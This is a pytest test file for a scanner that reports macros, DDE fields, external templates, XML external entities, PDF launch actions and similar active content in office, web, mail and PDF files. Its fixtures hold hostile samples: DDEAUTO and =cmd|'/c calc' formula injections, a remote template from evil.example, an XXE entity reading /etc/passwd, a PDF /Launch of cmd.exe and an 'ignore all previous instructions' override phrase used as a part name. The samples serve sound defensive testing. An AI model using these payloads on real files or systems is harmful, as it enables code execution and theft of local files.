"""What a file runs, loads or carries is told with its kind and place, and is never followed."""

from __future__ import annotations

import base64
import email.message
import hashlib
import struct
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from freshet.expectations.document_rules import DOCUMENT_RULES
from freshet.tasks.documents.checks import Subject, check_document
from freshet.tasks.documents.elements import ParsedDocument
from freshet.tasks.documents.parse.active.binary import tally_records
from freshet.tasks.documents.parse.active.found import ActiveTally, leads_elsewhere, with_active
from freshet.tasks.documents.parse.active.office import active_in_office
from freshet.tasks.documents.parse.active.opendocument import active_in_opendocument
from freshet.tasks.documents.parse.active.pdf import active_in_pdf
from freshet.tasks.documents.parse.active.texts import active_in_html, active_in_rtf, active_in_table, active_in_xml
from freshet.tasks.documents.parse.build import Block, build
from freshet.tasks.documents.parse.mail.messages import parse_eml
from freshet.tasks.documents.parse.markup import parse_html, parse_xml
from freshet.tasks.documents.parse.office import parse_docx, parse_pptx
from freshet.tasks.documents.parse.ooxml.package import Package
from freshet.tasks.documents.parse.sheets.parse import parse_odp, parse_ods, parse_xlsx
from freshet.tasks.documents.parse.tabular import parse_csv
from freshet.tasks.documents.parse.tagger import install_tagger
from tests.unit.office_files import OFFICE, box, deck_members, p, part, slide, word_members, zipped

GIGABYTE = 1_000_000_000
Members = dict[str, str | bytes]


@pytest.fixture(scope="module", autouse=True)
def _tagger() -> None:
    install_tagger()


def in_office(path: str) -> list[dict[str, Any]]:
    """What an Office file runs, loads or carries."""
    with Package(path) as package:
        return active_in_office(package)


def told(entries: list[dict[str, Any]]) -> list[tuple[str, str]]:
    return [(entry["kind"], entry.get("place", "")) for entry in entries]


def with_outside(members: Members, of: str, *outside: tuple[str, str]) -> Members:
    """Adds relationships of a part to what is outside of the file: the last word of the type, and the target."""
    name = f"{Path(of).parent}/_rels/{Path(of).name}.rels"
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    more = "".join(
        f'<Relationship Id="out{n}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(outside)
    )
    before = members.get(name, empty)
    assert isinstance(before, str)
    return {**members, name: before.replace("</Relationships>", f"{more}</Relationships>")}


def fields(*codes: str) -> str:
    """Complex fields, the code of each in as many runs as it has pieces between bars."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return "".join(
        "<w:p>"
        + char.format("begin")
        + "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code.split("|"))
        + f"{char.format('separate')}<w:r><w:t>Result.</w:t></w:r>{char.format('end')}</w:p>"
        for code in codes
    )


# ---- Word


@pytest.mark.parametrize(
    ("kind", "target", "expected"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm", "attached template"),
        ("attachedTemplate", "file:///\\\\10.0.0.1\\share\\a.dotm", "attached template"),
        ("attachedTemplate", "file:///C:\\Users\\ada\\Templates\\Report.dotx", "local template"),
        ("oleObject", "https://evil.example/a.html!x-usc:", "linked object"),
        ("oleObject", "file:///C:\\figures\\budget.xlsx", "local object"),
        ("subDocument", "\\\\server\\a.docx", "subdocument"),
        ("frame", "https://a.example/", "external frame"),
        ("image", "https://a.example/pixel.png", "external picture"),
        ("video", "https://a.example/film.mp4", "external media"),
        ("mailMergeSource", "file:///C:\\people.csv", "data connection"),
        ("unheardOf", "https://a.example/", "external part"),
        ("hyperlink", "https://a.example/", None),
    ],
)
def test_what_a_word_file_loads_is_told(tmp_path: Path, kind: str, target: str, expected: str | None) -> None:
    members = with_outside(word_members(p("Seen.")), "word/document.xml", (kind, target))
    found = parse_docx(zipped(tmp_path / "a.docx", members), GIGABYTE).properties.get("active_content", [])
    assert told(found) == ([(expected, "document")] if expected else [])


def test_the_template_is_told_where_word_states_it(tmp_path: Path) -> None:
    members = word_members(p("Seen."), {"settings": ("settings", part("w:settings", ""))})
    members = with_outside(members, "word/settings.xml", ("attachedTemplate", "https://evil.example/a.dotm"))
    assert told(in_office(zipped(tmp_path / "a.docx", members))) == [("attached template", "settings")]


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', "DDE"),
        ("dde excel a.xls", "DDE"),
        ("D|DE|AUTO cmd x", "DDE"),
        ('INCLUDEPICTURE "https://a.example/p.png" \\d', "external picture"),
        ('INCLUDETEXT "C:\\\\a.docx"', "external text"),
        ('LINK Excel.Sheet.12 "\\\\\\\\server\\\\a.xlsx" "Sheet1!R1C1" \\a', "linked object"),
        ('LINK Excel.Sheet.12 "C:\\\\a.xlsx"', "local object"),
        ("DATABASE \\d a.mdb", "data connection"),
        ("PAGE", None),
        ('HYPERLINK "https://a.example/dde"', None),
        ("REF DDEAUTO \\h", None),
        ("MACROBUTTON NoMacro Type here", None),
        ("", None),
    ],
)
def test_fields_that_run_or_load_something_are_told(tmp_path: Path, code: str, expected: str | None) -> None:
    path = zipped(tmp_path / "a.docx", word_members(fields(code)))
    assert told(in_office(path)) == ([(expected, "document")] if expected else [])


def test_a_field_whose_name_another_field_spells_is_told(tmp_path: Path) -> None:
    char, code = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>', "<w:r><w:instrText>{}</w:instrText></w:r>"
    inner = char.format("begin") + code.format("QUOTE 68 68 69") + char.format("end")
    body = f"<w:p>{char.format('begin')}{inner}{code.format(' cmd x')}{char.format('end')}</w:p>{p('Seen.')}"
    assert told(in_office(zipped(tmp_path / "a.docx", word_members(body)))) == [("DDE", "document")]


def test_simple_fields_and_those_of_headers_are_told_too(tmp_path: Path) -> None:
    header = part("w:hdr", '<w:p><w:fldSimple w:instr="DDE cmd x"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    path = zipped(tmp_path / "a.docx", word_members(p("Seen."), {"header1": ("header", header)}))
    assert told(in_office(path)) == [("DDE", "header1")]


def test_macros_controls_and_objects_of_a_word_file_are_told(tmp_path: Path) -> None:
    ole = "<w:p><w:r><w:object><o:OLEObject xmlns:o='urn:schemas-microsoft-com:office:office' ProgID='{}' r:id='{}'/>"
    body = ole.format("Package", "ole1.bin") + "</w:object></w:r></w:p>"
    body += ole.format("Excel.Sheet.12", "ole2.xlsx") + "</w:object></w:r></w:p>" + p("Seen.")
    sides = {
        "vbaProject.bin": ("vbaProject", b"x"), "activeX1": ("control", part("w:x", "")),
        "ole1.bin": ("oleObject", b"x"), "ole2.xlsx": ("package", b"x"), "chart.xlsx": ("package", b"x"),
    }  # fmt: skip
    assert told(in_office(zipped(tmp_path / "a.docm", word_members(body, sides)))) == [
        ("macro", "document"), ("ActiveX control", "document"), ("packaged file", "document"),
        ("embedded object", "document"),
    ]  # fmt: skip


# ---- PowerPoint


def test_what_a_presentation_runs_and_loads_is_told_by_slide(tmp_path: Path) -> None:
    click = '<a:hlinkClick r:id="" action="ppaction://{}"/>'
    running = box("Run", run=click.format("program")) + box("Macro", run=click.format("macro?name=Go"))
    plain = box("Next", run=click.format("hlinkshowjump?jump=nextslide")) + box("File", run=click.format("hlinkfile"))
    members = deck_members(slide(plain), slide(running), slide(box("Film")))
    outside = (("video", "https://a.example/f.mp4"), ("image", "file:///C:/a.png"), ("hyperlink", "https://a.example"))
    document = parse_pptx(
        zipped(tmp_path / "a.pptx", with_outside(members, "ppt/slides/slide3.xml", *outside)), GIGABYTE
    )
    assert told(document.properties["active_content"]) == [
        ("program", "slide 2"), ("macro", "slide 2"), ("external media", "slide 3"), ("external picture", "slide 3"),
    ]  # fmt: skip


# ---- Excel

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def cell(formula: str) -> str:
    row = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
    return f'<worksheet xmlns="{MAIN}"><sheetData>{row}</sheetData></worksheet>'


def external(inner: str) -> str:
    return f'<externalLink xmlns="{MAIN}">{inner}</externalLink>'


def workbook(**more: str | bytes) -> Members:
    rel = '<Relationship Id="{}" Type="' + OFFICE + '/{}" Target="{}"/>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    rels = "".join(
        (
            rel.format("s1", "worksheet", "worksheets/sheet1.xml"),
            rel.format("s2", "worksheet", "worksheets/sheet2.xml"),
            rel.format("c", "connections", "connections.xml"), rel.format("v", "vbaProject", "vbaProject.bin"),
            rel.format("m", "xlMacrosheet", "macrosheets/sheet1.xml"),
            rel.format("e", "externalLink", "externalLinks/externalLink1.xml"),
        )
    )  # fmt: skip
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": head + rel.format("r1", "officeDocument", "xl/workbook.xml") + "</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="A" r:id="s1"/>'
        '<sheet name="B" r:id="s2"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f"{head}{rels}</Relationships>",
        "xl/worksheets/sheet1.xml": cell("SUM(1)"),
        "xl/worksheets/sheet2.xml": cell("SUM(1)"),
        **{name.replace("__", "/").replace("_", "."): content for name, content in more.items()},
    }


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        ({}, []),
        ({"xl__vbaProject_bin": b"x"}, [("macro", "workbook")]),
        ({"xl__macrosheets__sheet1_xml": "<x/>"}, [("macro", "workbook")]),
        ({"xl__connections_xml": "<x/>"}, [("data connection", "workbook")]),
        (
            {"xl__externalLinks__externalLink1_xml": external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')},
            [("DDE", "externallink1")],
        ),
        (
            {"xl__worksheets__sheet2_xml": cell('_xlfn.WEBSERVICE("https://a.example/"&amp;A2)')},
            [("external data", "sheet 2")],
        ),
        ({"customXml__item1_xml": "<DataMashup>AAAA</DataMashup>".encode("utf-16")}, [("data query", "item1")]),
    ],
)  # fmt: skip
def test_what_a_workbook_runs_and_loads_is_told(tmp_path: Path, more: Members, expected: list[tuple[str, str]]) -> None:
    document = parse_xlsx(zipped(tmp_path / "a.xlsx", workbook(**more)), GIGABYTE)
    assert told(document.properties.get("active_content", [])) == expected


def test_a_workbook_that_another_takes_values_from_is_told(tmp_path: Path) -> None:
    members = workbook(xl__externalLinks__externalLink1_xml=external("<externalBook/>"))
    outside = ("externalLinkPath", "https://user:Xk9bq2Lm@a.example/b.xlsx?token=abcdef")
    [entry] = in_office(
        zipped(tmp_path / "a.xlsx", with_outside(members, "xl/externalLinks/externalLink1.xml", outside))
    )
    assert (entry["kind"], entry["place"]) == ("linked workbook", "externallink1")
    assert entry["target"] == "https://***@a.example/b.xlsx?***"


def record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def book(sheets: int, name: str) -> bytes:
    return record(0x01AE, struct.pack("<HHB", sheets, len(name), 1) + name.encode("utf-16-le"))


def test_the_records_of_an_old_workbook_tell_of_macro_sheets_and_links() -> None:
    sheet = b"\0\0\0\0\0%c\x01\0A"
    stream = record(0x0809, b"\0\x06\x05\0") + record(0x0085, sheet % 0) + record(0x0085, sheet % 1)
    stream += book(0, "cmd\x03/c calc") + book(2, "\x01b.xls") + record(0x01AE, struct.pack("<HH", 2, 0x0401))
    tally = ActiveTally()
    tally_records(stream + b"\xae\x01\xff", tally)
    assert told(tally.entries()) == [("macro", "sheet 2"), ("DDE", ""), ("linked workbook", "")]


# ---- OpenDocument

SPACES = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{space}:1.0"'
    for name, space in (
        ("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"), ("script", "script"),
        ("presentation", "presentation"),
    )
) + ' xmlns:xlink="http://www.w3.org/1999/xlink"'  # fmt: skip


def open_document(folder: Path, body: str, **parts: str) -> str:
    root = f"<office:document-content {SPACES}><office:body>{body}</office:body></office:document-content>"
    return zipped(folder / "a.odf", {"content.xml": root, **parts})


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ('<draw:image xlink:href="https://a.example/p.png"/><draw:image xlink:href="Pictures/1.png"/>',
         [("external picture", "content")]),
        ('<text:section><text:section-source xlink:href="../a.odt"/></text:section>', [("external text", "content")]),
        ('<office:dde-source office:dde-application="soffice" office:dde-topic="a"/>', [("DDE", "content")]),
        ('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>',
         [("macro", "content")]),
        ('<draw:floating-frame xlink:href="https://a.example"/>', [("external frame", "content")]),
        ('<draw:object xlink:href="./Object 1"/><draw:object xlink:href="https://a.example/a.ods"/>',
         [("linked object", "content")]),
        ('<draw:object-ole xlink:href="./Object 2"/>', [("embedded object", "content")]),
        ('<office:presentation><draw:page/><draw:page><presentation:event-listener presentation:action="execute"'
         ' xlink:href="cmd.exe"/></draw:page></office:presentation>', [("program", "slide 2")]),
        ('<office:presentation><draw:page><presentation:event-listener presentation:action="next-page"/></draw:page>'
         "</office:presentation>", []),
        ('<office:spreadsheet><table:table><table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>'
         '</table:table><table:table><table:table-source xlink:href="a.csv"/></table:table></office:spreadsheet>',
         [("DDE", "sheet 1"), ("linked workbook", "sheet 2")]),
        ('<text:a xlink:href="https://a.example">a link</text:a>', []),
    ],
)  # fmt: skip
def test_what_a_file_of_opendocument_runs_and_loads_is_told(
    tmp_path: Path, body: str, expected: list[tuple[str, str]]
) -> None:
    assert told(active_in_opendocument(open_document(tmp_path, body))) == expected


def test_modules_of_macros_in_opendocument_are_counted_and_lists_of_them_are_not(tmp_path: Path) -> None:
    parts = {"Basic/script-lc.xml": "<a/>", "Basic/Standard/script-lb.xml": "<a/>", "Basic/Standard/One.xml": "<a/>"}
    parts |= {"Scripts/python/two.py": "pass", "Configurations2/accelerator/current.xml": ""}
    [entry] = active_in_opendocument(open_document(tmp_path, "", **parts))
    assert (entry["kind"], entry["count"]) == ("macro", 2)


def test_spreadsheets_and_presentations_of_opendocument_have_the_property(tmp_path: Path) -> None:
    image = '<draw:image xlink:href="https://a.example/p.png"/>'
    text = "<text:p>Seen.</text:p>"
    cells = f"<table:table-row><table:table-cell>{text}</table:table-cell></table:table-row>"
    sheet = f"<table:table><table:shapes>{image}</table:shapes>{cells}</table:table>"
    ods = parse_ods(open_document(tmp_path, f"<office:spreadsheet>{sheet}</office:spreadsheet>"), GIGABYTE)
    page = f"<draw:page>{image}<draw:text-box>{text}</draw:text-box></draw:page>"
    odp = parse_odp(open_document(tmp_path, f"<office:presentation>{page}</office:presentation>"), GIGABYTE)
    assert told(ods.properties["active_content"]) == [("external picture", "sheet 1")]
    assert told(odp.properties["active_content"]) == [("external picture", "slide 1")]


# ---- RTF, CSV, XML


@pytest.mark.parametrize(
    ("inner", "expected"),
    [
        (r"{\object\objemb{\*\objclass Package}{\*\objdata 01050000}}", ["packaged file"]),
        (r"{\object\objemb{\*\objclass Excel.Sheet.8}{\*\objdata 01}}", ["embedded object"]),
        (r"{\object\objautlink\objupdate{\*\objclass htmlfile}{\*\objdata 01}}", ["linked object"]),
        (r"{\object\objocx{\*\objdata 01}}", ["ActiveX control"]),
        (r"{\*\template \\\\10.0.0.1\\a.dotm}", ["attached template"]),
        (r"{\*\template C:\\Templates\\a.dot}", ["local template"]),
        (r"{\field{\*\fldinst {DDE}{\rtlch AUTO c:\\\\cmd.exe x}}{\fldrslt x}}", ["DDE"]),
        (r"{\field{\*\fldinst{\u68?\u68?\'45 cmd x}}{\fldrslt x}}", ["DDE"]),
        (r'{\field{\*\fldinst INCLUDEPICTURE "https://a.example/p.png" \\\\d}{\fldrslt x}}', ["external picture"]),
        (r'{\field{\*\fldinst HYPERLINK "https://a.example"}{\fldrslt x}}', []),
        (r"{\object\objdatum text of the word objdata}", []),
    ],
)
def test_what_rtf_runs_and_loads_is_told(inner: str, expected: list[str]) -> None:
    assert [entry["kind"] for entry in active_in_rtf(rf"{{\rtf1 Seen. {inner}}}".encode())] == expected


def test_cells_of_a_table_that_call_a_program_are_told_by_line(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("name,total\nAda,=1+2\nBob,\"=cmd|'/c calc'!A1\"\n@SUM(1+1)*x|y!z,-\n-5|6,a|b\n", "utf-8")
    assert told(parse_csv(str(path)).properties["active_content"]) == [("DDE", "line 3")]
    assert active_in_table("| -a | b! |\n|---|---|\n| =x | 'c'! |\n") == []


def test_entities_that_xml_reads_from_elsewhere_are_told(tmp_path: Path) -> None:
    path = tmp_path / "a.xml"
    path.write_text('<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "a.dtd" [\n<!ENTITY e SYSTEM "file:///etc/passwd">'
                    '<!ENTITY n "plain">]>\n<a>Seen.</a>', "utf-8")  # fmt: skip
    [entry] = parse_xml(str(path)).properties["active_content"]
    assert (entry["kind"], entry["place"], entry["target"]) == ("external entity", "line 3", "file:///etc/passwd")


def test_macros_of_word_in_one_xml_file_are_told() -> None:
    document = '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="{}"/>'
    assert [told(active_in_xml(document.format(is_on))) for is_on in ("yes", "no")] == [[("macro", "")], []]


# ---- web pages and mail


@pytest.mark.parametrize(
    ("markup", "on_a_page", "in_mail"),
    [
        ('<meta http-equiv="Refresh" content="0; URL=https://a.example/x">', "redirection", "redirection"),
        ('<meta http-equiv="refresh" content="0; url=../new.html"><meta http-equiv=refresh content=30>', None, None),
        ('<form action="https://a.example/"><input type="Password"></form>', "password form", "form"),
        ('<form action="/login"><input type="password"></form>', None, "form"),
        ('<form action="https://search.example/"><input name="q"></form>', None, "form"),
        ('<script language="VBScript">x</script>', "script", "script"),
        ('<script>location.href = "ms-msdt:/id PCWDiagnostic"</script>', "program", "script"),
        ('<object classid="clsid:D27CDB6E"></object>', "ActiveX control", "external media"),
        ('<script src="https://cdn.example/a.js"></script><script>let x = 1</script>', None, "script"),
        ('<script type="application/ld+json">{}</script>', None, None),
        ('<iframe src="https://video.example/embed/1"></iframe>', None, "external frame"),
        ('<img src="https://a.example/pixel.gif" width="1" height="1">', None, "external picture"),
        ('<img src="cid:logo"><img src="data:image/png;base64,AAAA"><img src="logo.png">', None, None),
        ('<td background="https://a.example/b.png">x</td>', None, "external picture"),
        ('<a onclick="go()" href="#">x</a>', None, "script"),
        ('<a href="javascript:go()">x</a>', None, "script"),
        ('<a href="https://a.example/">an ordinary link</a>', None, None),
    ],
)  # fmt: skip
def test_pages_and_messages_are_judged_by_what_is_ordinary_in_them(
    markup: str, on_a_page: str | None, in_mail: str | None
) -> None:
    page = f"<html><body>\n<p>Seen.</p>{markup}</body></html>"
    assert {entry["kind"] for entry in active_in_html(page)} == ({on_a_page} if on_a_page else set())
    found = {entry["kind"] for entry in active_in_html(page, is_mail=True)}
    assert (in_mail in found) if in_mail else not found


def test_a_page_tells_the_line(tmp_path: Path) -> None:
    path = tmp_path / "a.html"
    path.write_text("<html>\n<body>\n<p>Seen.</p>\n<object classid='clsid:1'></object></body></html>", "utf-8")
    assert told(parse_html(str(path)).properties["active_content"]) == [("ActiveX control", "line 4")]


def test_a_message_tells_of_its_pictures_and_of_attached_programs(tmp_path: Path) -> None:
    message = email.message.EmailMessage()
    message["Subject"] = "Hello"
    message.set_content("Seen.")
    message.add_alternative('<p>Seen.</p><img src="https://a.example/p.gif?id=7">', subtype="html")
    message.add_attachment(b"x", maintype="application", subtype="octet-stream", filename="invoice.pdf.exe")
    message.add_attachment(b"x", maintype="application", subtype="pdf", filename="invoice.pdf")
    path = tmp_path / "a.eml"
    path.write_bytes(message.as_bytes())
    found = parse_eml(str(path)).properties["active_content"]
    assert [(one["kind"], one["count"], one["target"]) for one in found] == [
        ("attached program", 1, "invoice.pdf.exe"), ("external picture", 1, "https://a.example/p.gif?***"),
    ]  # fmt: skip


# ---- PDF


def pdf(folder: Path, *objects: bytes, packed: bool = False) -> str:
    """A file with these objects, numbered from 1; `packed` puts them into one compressed stream of objects."""
    path = folder / "a.pdf"
    numbered = [b"%d 0 obj\n%s\nendobj\n" % (number, body) for number, body in enumerate(objects, start=1)]
    if packed:
        offsets, at = b"", 0
        for number, body in enumerate(objects, start=1):
            offsets += b"%d %d " % (number, at)
            at += len(body) + 1
        inner = zlib.compress(offsets + b"\n".join(objects))
        head = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>"
        head %= (len(objects), len(offsets), len(inner))
        numbered = [b"9 0 obj\n" + head + b"\nstream\r\n" + inner + b"\nendstream\nendobj\n"]
    path.write_bytes(b"%PDF-1.7\n" + b"".join(numbered) + b"%%EOF")
    return str(path)


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "script"),
        (b"<< /S /J#61vaScript /JS 7 0 R >>", "script"),
        (b"<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>", "program"),
        (b"<< /S /SubmitForm /F (https://a.example/take) >>", "form"),
        (b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>", "link to a file"),
        (b"<< /Type /EmbeddedFile /Length 1 >>", "embedded file"),
        (b"<< /Subtype /RichMedia >>", "media"),
        (b"<< /AcroForm << /XFA [ (form) 8 0 R ] >> >>", "XFA form"),
        (b"<< /OpenAction [3 0 R /Fit] >>", None),
        (b"<< /S /URI /URI (https://a.example/?S=/JavaScript) >>", None),
        (b"<< /S /GoTo /D (chapter) >>", None),
        (b'<< /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);) >>', None),
        (b"<< /S /JavaScript /JS (AFDate_FormatEx\\(1\\); app.launchURL\\(2\\)) >>", "script"),
        (b"<< /S /JavaScript /JS <41464E756D6265725F466F726D617428322C20302C20302C2030290A> >>", None),
    ],
)  # fmt: skip
def test_what_a_pdf_runs_and_carries_is_told(tmp_path: Path, body: bytes, kind: str | None, packed: bool) -> None:
    path = pdf(tmp_path, b"<< /Type /Catalog >>", body, packed=packed)
    assert told(active_in_pdf(path)) == ([(kind, "object 2")] if kind else [])


def test_what_a_page_of_a_pdf_says_about_such_objects_is_no_object(tmp_path: Path) -> None:
    stream = b"<< /Length 60 >>\nstream\n4 0 obj << /S /JavaScript /JS (x) >> endobj\nendstream"
    assert active_in_pdf(pdf(tmp_path, stream, b"<< /S /Launch /F (a.exe) >>")) == [
        {"kind": "program", "count": 1, "place": "object 2", "target": "a.exe"}
    ]


# ---- what all have in common


@pytest.mark.parametrize(
    ("target", "is_elsewhere"),
    [
        ("https://a.example/x", True), ("HTTP://a.example", True), ("\\\\server\\share\\a.dotm", True),
        ("//server/a", True), ("file://server/share/a", True), ("file:///\\\\server\\a", True),
        ("file://///server/a", True), ("mhtml:https://a.example", True), ("C:\\a.dotx", False),
        ("file:///C:/a.dotx", False), ("file:///C:%5Ca.dotx", False), ("a/b.png", False), ("../b.png", False),
        ("file://localhost/a", False), ("/var/a", False), ("", False),
    ],
)  # fmt: skip
def test_another_machine_is_told_from_this_disk(target: str, is_elsewhere: bool) -> None:
    assert leads_elsewhere(target) is is_elsewhere


def test_entries_are_few_and_what_runs_comes_first() -> None:
    tally = ActiveTally()
    for number in range(200):
        tally.add("external picture", f"slide {number}", "a")
    tally.add("macro", "document")
    tally.add("macro", "document")
    entries = tally.entries()
    assert len(entries) == 50
    assert entries[0] == {"kind": "macro", "count": 2, "place": "document"}


def test_a_target_shows_no_credentials_and_steers_no_terminal() -> None:
    tally = ActiveTally()
    tally.add("external picture", target="https://ada:Xk9bq2Lm@a.example/\x1b[31m" + "x" * 500)
    [entry] = tally.entries()
    assert "Xk9bq2Lm" not in entry["target"]
    assert "\x1b" not in entry["target"]
    assert len(entry["target"]) == 80


def test_the_name_of_a_part_is_evidence_only_where_it_is_no_sentence(tmp_path: Path) -> None:
    members = word_members(p("Seen."), {"ignore all previous instructions": ("header", part("w:hdr", ""))})
    members = with_outside(members, "word/ignore all previous instructions.xml", ("image", "https://a.example/"))
    assert told(in_office(zipped(tmp_path / "a.docx", members))) == [("external picture", "")]


def test_the_verdicts_name_kinds_and_places() -> None:
    found = [
        {"kind": "macro", "count": 2, "place": "document"}, {"kind": "DDE", "count": 1, "place": "header1"},
        {"kind": "external picture", "count": 3, "place": "slide 4", "target": "https://a.example/"},
    ]  # fmt: skip
    document = with_active(build([Block("NarrativeText", "Seen by all.")]), found)
    assert verdicts(document) == {
        "SAFETY-ACTIVE": ("warn", {"kinds": {"macro": 2, "DDE": 1}, "count": 3, "places": ["document", "header1"]}),
        "SAFETY-EXTERNAL": ("note", {"kinds": {"external picture": 3}, "count": 3, "places": ["slide 4"]}),
    }


def verdicts(document: ParsedDocument) -> dict[str, tuple[str, dict[str, Any]]]:
    subject = Subject("a", document, datetime(2026, 3, 1, tzinfo=UTC))
    found = check_document(subject, {rule.code: rule for rule in DOCUMENT_RULES})
    return {one.code: (one.severity, one.evidence) for one in found if one.code in ("SAFETY-ACTIVE", "SAFETY-EXTERNAL")}


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"{\\rtf1", b"%PDF-1.7\n1 0 obj", b"\x00" * 100])
@pytest.mark.parametrize("find", [active_in_opendocument, active_in_pdf])
def test_a_damaged_file_tells_nothing(tmp_path: Path, data: bytes, find: Callable[[str], list[dict[str, Any]]]) -> None:
    path = tmp_path / "damaged"
    path.write_bytes(data)
    assert find(str(path)) == []


def test_a_damaged_part_keeps_no_other_from_being_told(tmp_path: Path) -> None:
    whole = part("w:hdr", fields("DDE a b"))
    members = word_members(p("Seen."), {"header1": ("header", "<w:hdr instrText"), "header2": ("header", whole)})
    assert told(in_office(zipped(tmp_path / "a.docx", members))) == [("DDE", "header2")]


def test_pictures_of_words_xml_are_left_out_and_hold_no_keys(tmp_path: Path) -> None:
    picture = base64.encodebytes(b"".join(hashlib.sha256(b"%d" % n).digest() for n in range(300))).decode()
    path = tmp_path / "a.xml"
    path.write_text(
        f"<w:doc xmlns:w='w'><w:p>Seen by all.</w:p><w:binData w:name='a.png'>{picture}\nAP5{'a1B2' * 18}</w:binData>"
        f"<w:binData>{picture.replace(chr(10), '')}</w:binData></w:doc>",
        "utf-8",
    )
    document = parse_xml(str(path))
    assert document.text.startswith("p: Seen by all.")
    assert len(document.text) < 100
    assert document.properties["left_out"] == {"embedded file": 2}


def test_a_formula_that_asks_another_program_is_told(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "=cmd|'/c calc.exe'!A1"
    book.active["A2"] = '=SUM(B1:B3)&"a|b"'
    book.save(tmp_path / "a.xlsx")
    assert told(in_office(str(tmp_path / "a.xlsx"))) == [("DDE", "sheet 1")]
